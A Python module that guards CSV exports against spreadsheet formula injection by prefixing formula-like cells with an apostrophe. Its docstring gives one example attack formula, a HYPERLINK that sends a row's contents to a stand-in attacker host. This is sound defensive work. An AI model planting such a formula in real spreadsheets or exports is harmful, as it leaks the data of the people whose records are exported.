"""CSV exports that a spreadsheet opens without running anything.

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets (CSV injection): a person named
`=HYPERLINK("http://evil.example/?"&A2)` would leak the row when clicked. Such text gets a
leading apostrophe, which spreadsheets show as plain text. Numbers stay numbers.
(defusedcsv leaves tab- and CR-led cells alone, so the rule is written out here.)
"""
from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(header: list[str], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """The header and rows as CSV text lines (for a streamed response), every cell made safe."""
    writer = csv.writer(_Echo())
    yield writer.writerow(header)
    for row in rows:
        yield writer.writerow([safe_cell(cell) for cell in row])
